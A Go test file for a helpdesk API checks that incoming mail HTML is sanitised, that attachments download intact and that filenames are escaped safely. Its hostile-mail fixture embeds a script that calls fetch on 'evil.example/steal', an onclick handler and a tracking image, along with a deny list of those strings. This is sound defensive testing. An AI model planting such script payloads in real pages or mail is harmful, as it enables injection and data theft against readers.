package api

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/ledgerdesk/ledgerdesk/adapters/blobstore"
	"github.com/ledgerdesk/ledgerdesk/adapters/htmlsafe"
	"github.com/ledgerdesk/ledgerdesk/adapters/ingest"
	"github.com/ledgerdesk/ledgerdesk/adapters/mimeparse"
	"github.com/ledgerdesk/ledgerdesk/domain"
	"github.com/ledgerdesk/ledgerdesk/eventstore"
	"github.com/ledgerdesk/ledgerdesk/projections"
)

// envBlobs maps each test server to the blob store it reads raw mails from.
var envBlobs sync.Map // *testEnv -> *blobstore.FS

// newTestBlobs gives env a blob store in a temporary folder.
func newTestBlobs(tb testing.TB, env *testEnv) *blobstore.FS {
	tb.Helper()
	fs, err := blobstore.NewFS(filepath.Join(tb.TempDir(), "blobs"))
	if err != nil {
		tb.Fatalf("blob store: %v", err)
	}
	envBlobs.Store(env, fs)
	return fs
}

func (e *testEnv) blobs(tb testing.TB) *blobstore.FS {
	tb.Helper()
	fs, ok := envBlobs.Load(e)
	if !ok {
		tb.Fatal("the test server has no blob store")
	}
	return fs.(*blobstore.FS)
}

// seededMail is a mail that went through the ingest sink and became a
// ticket: its first article (seq 1).
type seededMail struct {
	ticketID string
	position int64
	mail     domain.MailReceived
}

func (s seededMail) path(suffix string) string {
	return fmt.Sprintf("/api/v1/tickets/%s/articles/1%s?min_position=%d", s.ticketID, suffix, s.position)
}

// seedMail stores raw through the real ingest sink (blob, MailReceived) and
// creates the ticket from it as the intake does.
func (e *testEnv) seedMail(tb testing.TB, raw []byte) seededMail {
	tb.Helper()
	return e.seedMailWith(tb, raw, false)
}

// seedMailWith is seedMail through a sink of an account with
// images_as_attachments as given.
func (e *testEnv) seedMailWith(tb testing.TB, raw []byte, imagesAsAttachments bool) seededMail {
	tb.Helper()
	ctx := context.Background()
	key := uniq("uid")
	sink, err := ingest.NewSink(ingest.SinkConfig{Store: e.store, Blobs: e.blobs(tb), Limits: mimeparse.DefaultLimits(),
		AccountID: "acc-bodies", Now: func() time.Time { return time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC) },
		ImagesAsAttachments: imagesAsAttachments})
	if err != nil {
		tb.Fatal(err)
	}
	if out, err := sink.Receive(ctx, key, int64(len(raw)), bytes.NewReader(raw)); err != nil || out.Reason != "" {
		tb.Fatalf("Receive() = %+v, %v", out, err)
	}
	if err := sink.Commit(ctx); err != nil {
		tb.Fatalf("Commit() error = %v", err)
	}
	mailID := domain.MailIDFor("acc-bodies", key)
	evs, err := e.store.ReadStream(ctx, ingest.MailStream(mailID), 1, 1)
	if err != nil || len(evs) != 1 {
		tb.Fatalf("read the mail's event: %d events, %v", len(evs), err)
	}
	ev, err := domain.UnmarshalEvent(evs[0].Type, evs[0].SchemaVersion, evs[0].Payload)
	if err != nil {
		tb.Fatal(err)
	}
	m := ev.(domain.MailReceived)
	n := ticketNumbers.Add(1)
	ticketID := domain.TicketIDFor(mailID)
	pos := e.appendDomain(tb, domain.TicketStream(ticketID), eventstore.NoStream, domain.TicketCreated{
		TicketID: ticketID, Number: 100000 + n, Subject: m.Subject, Status: domain.StatusNew,
		Requester: domain.Requester{Email: m.From.Email, Name: m.From.Name, Source: domain.RequesterAddress},
		AccountID: "acc-bodies", MessageID: m.MessageID, SenderEmail: m.From.Email, MailReceivedAt: m.ReceivedAt,
		CreatedAt: m.ReceivedAt, CausedBy: mailID,
	})
	return seededMail{ticketID: ticketID, position: pos, mail: m}
}

var (
	testPNG = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01 not really an image \xff\x00")
	testPDF = append([]byte("%PDF-1.7\n"), bytes.Repeat([]byte{0, 1, 2, 0xfe, '\r', '\n'}, 3000)...)
)

// hostileMail has a script, an onclick, a remote image, a cid image and a
// PDF attachment with a non-ASCII name.
func hostileMail(messageID string) []byte {
	return []byte(strings.Join([]string{
		"From: Max Muster <max@example.org>",
		"To: support@example.org",
		"Subject: printer on fire",
		"Message-ID: <" + messageID + ">",
		"Date: Mon, 23 Nov 2026 09:00:00 +0100",
		"MIME-Version: 1.0",
		`Content-Type: multipart/mixed; boundary="mix"`,
		"",
		"--mix",
		`Content-Type: multipart/alternative; boundary="alt"`,
		"",
		"--alt",
		"Content-Type: text/plain; charset=utf-8",
		"",
		"The printer is on fire.",
		"--alt",
		`Content-Type: multipart/related; boundary="rel"`,
		"",
		"--rel",
		"Content-Type: text/html; charset=utf-8",
		"",
		`<html><body><script>fetch("https://evil.example/steal")</script>`,
		`<p onclick="steal()">The printer is <b>on fire</b>.</p>`,
		`<img src="https://tracker.example/open.gif?u=max">`,
		`<img src="cid:logo.123@example.org" alt="logo">`,
		`</body></html>`,
		"--rel",
		"Content-Type: image/png",
		"Content-Transfer-Encoding: base64",
		"Content-ID: <logo.123@example.org>",
		"Content-Disposition: inline",
		"",
		base64.StdEncoding.EncodeToString(testPNG),
		"--rel--",
		"--alt--",
		"--mix",
		"Content-Type: application/pdf",
		"Content-Transfer-Encoding: base64",
		`Content-Disposition: attachment; filename*=utf-8''Bericht%20M%C3%A4rz.pdf`,
		"",
		wrap76(base64.StdEncoding.EncodeToString(testPDF)),
		"--mix--",
		"",
	}, "\r\n"))
}

func wrap76(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	b.WriteString(s)
	return b.String()
}

// hugeHTMLMail has a 5 MB HTML body full of handlers and remote images.
func hugeHTMLMail() []byte {
	unit := `<div onclick="x()"><p style="color:red">row</p><img src="http://t.example/p.gif"></div>` + "\r\n"
	return []byte("From: big@example.org\r\nTo: support@example.org\r\nSubject: huge\r\nMessage-ID: <huge@example.org>\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + strings.Repeat(unit, (5<<20)/len(unit)))
}

func init() {
	withMail := func(suffix string) recipe {
		return func(tb testing.TB, e *testEnv) (string, any) {
			return e.seedMail(tb, hostileMail(uniq("m")+"@example.org")).path(suffix), nil
		}
	}
	recipes["GET /api/v1/tickets/:id/articles/:seq/body"] = withMail("/body")
	recipes["GET /api/v1/tickets/:id/articles/:seq/attachments"] = withMail("/attachments")
	recipes["GET /api/v1/tickets/:id/articles/:seq/attachments/:n"] = withMail("/attachments/2")
	recipes["GET /api/v1/tickets/:id/articles/:seq/inline/:cid"] = withMail("/inline/logo.123@example.org")
	recipes["GET /api/v1/tickets/:id/articles/:seq/eml"] = withMail("/eml")
}

type bodyOut = articleBody

var imgSrc = regexp.MustCompile(`<img[^>]* src="([^"]*)"`)

func TestArticleBodies_EndToEnd(t *testing.T) {
	t.Parallel()
	for _, b := range backends() {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, b)
			agent := e.tokens[domain.RoleAgent]
			raw := hostileMail("fire-1@example.org")
			// given a hostile mail received through the ingest sink
			m := e.seedMail(t, raw)

			// when its body is read, then the HTML runs and fetches nothing
			var body bodyOut
			e.mustJSON(t, http.MethodGet, m.path("/body"), agent, nil, http.StatusOK, &body)
			if body.Text != "The printer is on fire." || body.Kind != "mail" || body.HTMLTruncated || body.HTMLFallback {
				t.Errorf("body = %+v", body)
			}
			for _, bad := range []string{"<script", "steal", "onclick", "tracker.example", "evil.example", "cid:"} {
				if strings.Contains(strings.ToLower(body.HTML), bad) {
					t.Errorf("sanitised HTML contains %q: %s", bad, body.HTML)
				}
			}
			if !strings.Contains(body.HTML, "<b>on fire</b>") {
				t.Errorf("sanitised HTML lost the text: %s", body.HTML)
			}
			srcs := imgSrc.FindAllStringSubmatch(body.HTML, -1)
			if len(srcs) != 1 {
				t.Fatalf("sanitised HTML has %d image sources, want only the cid one: %s", len(srcs), body.HTML)
			}
			wantSrc := "/api/v1/tickets/" + m.ticketID + "/articles/1/inline/logo.123@example.org"
			if srcs[0][1] != wantSrc {
				t.Errorf("image source = %q, want %q", srcs[0][1], wantSrc)
			}

			// then the cid image URL serves the image's bytes
			resp, got := e.do(t, http.MethodGet, srcs[0][1], agent, nil)
			if resp.StatusCode != http.StatusOK || !bytes.Equal(got, testPNG) || resp.Header.Get("Content-Type") != "image/png" {
				t.Errorf("inline image = %d %q, %d bytes (equal %v)", resp.StatusCode, resp.Header.Get("Content-Type"), len(got), bytes.Equal(got, testPNG))
			}
			if resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
				t.Errorf("inline image headers = %v, want nosniff and a sandbox CSP", resp.Header)
			}

			// then the attachments are listed and the PDF downloads byte for byte
			var list struct {
				Items []attachmentItem `json:"items"`
			}
			e.mustJSON(t, http.MethodGet, m.path("/attachments"), e.tokens[domain.RoleAuditor], nil, http.StatusOK, &list)
			if len(list.Items) != 2 {
				t.Fatalf("attachments = %+v, want the image and the PDF", list.Items)
			}
			pdf := list.Items[1]
			if pdf.Filename != "Bericht März.pdf" || pdf.ContentType != "application/pdf" || pdf.Size != int64(len(testPDF)) || pdf.Inline {
				t.Errorf("PDF listed as %+v", pdf)
			}
			if !list.Items[0].Inline || list.Items[0].ContentID != "logo.123@example.org" {
				t.Errorf("image listed as %+v", list.Items[0])
			}
			resp, got = e.do(t, http.MethodGet, pdf.URL, agent, nil)
			if resp.StatusCode != http.StatusOK || !bytes.Equal(got, testPDF) {
				t.Errorf("PDF download = %d, %d bytes, want %d identical bytes", resp.StatusCode, len(got), len(testPDF))
			}
			if ct := resp.Header.Get("Content-Type"); ct != "application/pdf" {
				t.Errorf("PDF Content-Type = %q", ct)
			}
			wantCD := `attachment; filename="Bericht M_rz.pdf"; filename*=UTF-8''Bericht%20M%C3%A4rz.pdf`
			if cd := resp.Header.Get("Content-Disposition"); cd != wantCD {
				t.Errorf("PDF Content-Disposition = %q, want %q", cd, wantCD)
			}

			// then the .eml is the raw mail
			resp, got = e.do(t, http.MethodGet, m.path("/eml"), agent, nil)
			if resp.StatusCode != http.StatusOK || !bytes.Equal(got, raw) {
				t.Errorf(".eml = %d, %d bytes, want the %d raw bytes", resp.StatusCode, len(got), len(raw))
			}
			if ct, cd := resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"); ct != "message/rfc822" ||
				cd != `attachment; filename="fire-1@example.org.eml"; filename*=UTF-8''fire-1%40example.org.eml` {
				t.Errorf(".eml headers = %q, %q", ct, cd)
			}

			// and whatever is missing is a 404 problem
			for _, p := range []string{
				"/api/v1/tickets/nope/articles/1/body",
				"/api/v1/tickets/" + m.ticketID + "/articles/7/body",
				"/api/v1/tickets/" + m.ticketID + "/articles/1/attachments/3",
				"/api/v1/tickets/" + m.ticketID + "/articles/1/inline/other@example.org",
			} {
				e.problem(t, http.MethodGet, p, agent, nil, http.StatusNotFound)
			}
			e.problem(t, http.MethodGet, "/api/v1/tickets/"+m.ticketID+"/articles/x/body", agent, nil, http.StatusBadRequest)
			// a ticket whose mail's blob is not in the store
			tid, pos := e.seedTicket(t, "")
			for _, suffix := range []string{"/eml", "/attachments/1"} {
				e.problem(t, http.MethodGet, fmt.Sprintf("/api/v1/tickets/%s/articles/1%s?min_position=%d", tid, suffix, pos), agent, nil, http.StatusNotFound)
			}
			// the analyst may not read bodies
			e.problem(t, http.MethodGet, m.path("/body"), e.tokens[domain.RoleAnalyst], nil, http.StatusForbidden)
		})
	}
}

// TestArticleBodies_ImagesAsAttachments: a mail imported with the
// account's images_as_attachments shows its cid: image in the attachment
// list, not in the HTML; the raw mail stays as received.
func TestArticleBodies_ImagesAsAttachments(t *testing.T) {
	t.Parallel()
	e := newEnv(t, backends()[0])
	agent := e.tokens[domain.RoleAgent]
	raw := hostileMail("images-as-attachments@example.org")
	m := e.seedMailWith(t, raw, true)

	var body bodyOut
	e.mustJSON(t, http.MethodGet, m.path("/body"), agent, nil, http.StatusOK, &body)
	if !body.ImagesAsAttachments || strings.Contains(body.HTML, `alt="logo"`) || !strings.Contains(body.HTML, "<b>on fire</b>") {
		t.Errorf("body = %+v, want the HTML without the inline image and images_as_attachments set", body)
	}
	var list struct {
		Items []attachmentItem `json:"items"`
	}
	e.mustJSON(t, http.MethodGet, m.path("/attachments"), agent, nil, http.StatusOK, &list)
	if len(list.Items) != 2 || list.Items[0].ContentID != "logo.123@example.org" || list.Items[0].Inline {
		t.Fatalf("attachments = %+v, want the image listed as an attachment (inline false) beside the PDF", list.Items)
	}
	resp, got := e.do(t, http.MethodGet, list.Items[0].URL, agent, nil)
	if resp.StatusCode != http.StatusOK || !bytes.Equal(got, testPNG) {
		t.Errorf("image download = %d, %d bytes; want the image's bytes", resp.StatusCode, len(got))
	}
	resp, got = e.do(t, http.MethodGet, m.path("/eml"), agent, nil)
	if resp.StatusCode != http.StatusOK || !bytes.Equal(got, raw) {
		t.Errorf(".eml = %d, %d bytes, want the %d raw bytes unchanged", resp.StatusCode, len(got), len(raw))
	}
}

func TestArticleBodies_HugeHTMLIsBounded(t *testing.T) {
	t.Parallel()
	for _, b := range backends() {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			// a budget no loaded test machine can miss, so that the test
			// sees the size bound and not the time bound
			e := newEnv(t, b, func(o *Options, _ projections.Reader) {
				o.Bodies.Sanitizer = htmlsafe.New(htmlsafe.Options{Timeout: time.Minute})
			})
			raw := hugeHTMLMail()
			// given a 5 MB HTML mail (stored as a loose blob, not packed)
			m := e.seedMail(t, raw)
			// when its body is read, then the answer is cut with a notice and safe
			var body bodyOut
			e.mustJSON(t, http.MethodGet, m.path("/body"), e.tokens[domain.RoleAgent], nil, http.StatusOK, &body)
			if !body.HTMLTruncated || !strings.Contains(body.HTML, `data-ledgerdesk-notice="truncated"`) {
				t.Errorf("5 MB HTML: truncated = %v, notice present = %v", body.HTMLTruncated, strings.Contains(body.HTML, "ledgerdesk-notice"))
			}
			if strings.Contains(body.HTML, "onclick") || strings.Contains(body.HTML, "t.example") {
				t.Error("5 MB HTML: handlers or remote images survived")
			}
			if len(body.HTML) > 2<<20 {
				t.Errorf("5 MB HTML: %d bytes of HTML returned, want at most the bound", len(body.HTML))
			}
			t.Logf("5 MB HTML mail (%d raw bytes): %d bytes of sanitised HTML returned", len(raw), len(body.HTML))
			// and the .eml still has all of it
			resp, got := e.do(t, http.MethodGet, m.path("/eml"), e.tokens[domain.RoleAuditor], nil)
			if resp.StatusCode != http.StatusOK || !bytes.Equal(got, raw) {
				t.Errorf(".eml = %d, %d bytes, want the %d raw bytes", resp.StatusCode, len(got), len(raw))
			}
		})
	}
}

func TestArticleBodies_SanitiserOutOfTimeShowsTheText(t *testing.T) {
	t.Parallel()
	// given a sanitiser whose budget is already spent when it starts
	e := newEnv(t, backends()[0], func(o *Options, _ projections.Reader) {
		o.Bodies.Sanitizer = htmlsafe.New(htmlsafe.Options{Timeout: time.Nanosecond})
	})
	m := e.seedMail(t, hostileMail("slow@example.org"))
	// when the body is read, then it answers with the text as HTML
	var body bodyOut
	e.mustJSON(t, http.MethodGet, m.path("/body"), e.tokens[domain.RoleAgent], nil, http.StatusOK, &body)
	want := bodyOut{Seq: 1, Kind: "mail", Text: "The printer is on fire.", HTML: "<pre>The printer is on fire.</pre>", HTMLFallback: true}
	if d := cmp.Diff(want, body); d != "" {
		t.Errorf("body (-want +got):\n%s", d)
	}
	if !strings.Contains(e.logs.String(), "not sanitised in time") {
		t.Error("the log does not say that the HTML was not sanitised in time")
	}
}

func TestContentDisposition(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, given, want string }{
		{"ascii stays", "report.pdf", `attachment; filename="report.pdf"; filename*=UTF-8''report.pdf`},
		{"non-ascii gets an ascii fallback and an RFC 8187 name", "Straße €.txt",
			`attachment; filename="Stra_e _.txt"; filename*=UTF-8''Stra%C3%9Fe%20%E2%82%AC.txt`},
		{"quotes, slashes and control characters cannot break out", "a\"b/c\\d\r\ne.txt",
			`attachment; filename="a_b_c_d__e.txt"; filename*=UTF-8''a%22b_c_d__e.txt`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := contentDisposition("attachment", tc.given); got != tc.want {
				t.Errorf("contentDisposition(%q) = %q, want %q", tc.given, got, tc.want)
			}
		})
	}
}

// longTextMail is a text mail whose body is n bytes of numbered lines.
func longTextMail(messageID string, n int) (raw []byte, text string) {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "line %06d of a long complaint about the printer\n", i)
	}
	text = b.String()
	return []byte("From: long@example.org\r\nTo: support@example.org\r\nSubject: long\r\nMessage-ID: <" + messageID + ">\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + strings.ReplaceAll(text, "\n", "\r\n")), text
}

func TestArticleBodies_WholeBodyIsReadFromTheStoredMail(t *testing.T) {
	t.Parallel()
	e := newEnv(t, backends()[0])
	agent := e.tokens[domain.RoleAgent]
	// given a mail with 300 KB of text, whose event keeps a prefix
	raw, text := longTextMail(uniq("long")+"@example.org", 300<<10)
	m := e.seedMail(t, raw)
	if !m.mail.TextBodyTruncated || len(m.mail.TextBody) > domain.MailBodyPrefixBytes {
		t.Fatalf("the event keeps %d bytes of text, truncated %v; want a prefix", len(m.mail.TextBody), m.mail.TextBodyTruncated)
	}
	// when its body is read, then it is the whole text, from the raw mail
	var body bodyOut
	e.mustJSON(t, http.MethodGet, m.path("/body"), agent, nil, http.StatusOK, &body)
	if strings.TrimRight(body.Text, "\n") != strings.TrimRight(text, "\n") || body.BodyTruncated {
		t.Errorf("body text = %d bytes (truncated %v), want the whole %d", len(body.Text), body.BodyTruncated, len(text))
	}
	// and the ticket shows the prefix and says that it is one
	var detail ticketDetailOut
	e.mustJSON(t, http.MethodGet, fmt.Sprintf("/api/v1/tickets/%s?min_position=%d", m.ticketID, m.position), agent, nil,
		http.StatusOK, &detail)
	if len(detail.Articles) != 1 || !detail.Articles[0].BodyTruncated || detail.Articles[0].TextBody == nil ||
		!strings.HasPrefix(text, *detail.Articles[0].TextBody) {
		t.Errorf("ticket articles = %d, first truncated %v", len(detail.Articles), len(detail.Articles) > 0 && detail.Articles[0].BodyTruncated)
	}
}

func TestArticleBodies_OldEventsKeepTheirWholeBodies(t *testing.T) {
	t.Parallel()
	e := newEnv(t, backends()[0])
	// given a mail recorded before bodies were bounded: its event holds
	// the whole 300 KB of text and no truncation flag, and no blob is stored
	_, text := longTextMail("old@example.org", 300<<10)
	mailID := domain.MailIDFor("acc-old", "uid-1")
	ticketID := domain.TicketIDFor(mailID)
	e.appendDomain(t, ingest.MailStream(mailID), eventstore.NoStream, domain.MailReceived{
		MailID: mailID, AccountID: "acc-old", SourceKey: "uid-1", BlobRef: "not-stored", MessageID: "old@example.org",
		Subject: "old", From: domain.Address{Email: "old@example.org"}, TextBody: text,
	})
	pos := e.appendDomain(t, domain.TicketStream(ticketID), eventstore.NoStream, domain.TicketCreated{
		TicketID: ticketID, Number: 100000 + ticketNumbers.Add(1), Subject: "old", Status: domain.StatusNew,
		Requester: domain.Requester{Email: "old@example.org", Source: domain.RequesterAddress}, AccountID: "acc-old",
		MessageID: "old@example.org", CausedBy: mailID,
	})
	// when its body is read, then the event's whole text is served
	var body bodyOut
	e.mustJSON(t, http.MethodGet, fmt.Sprintf("/api/v1/tickets/%s/articles/1/body?min_position=%d", ticketID, pos),
		e.tokens[domain.RoleAgent], nil, http.StatusOK, &body)
	if body.Text != text || body.BodyTruncated {
		t.Errorf("body text = %d bytes (truncated %v), want the event's %d", len(body.Text), body.BodyTruncated, len(text))
	}
}
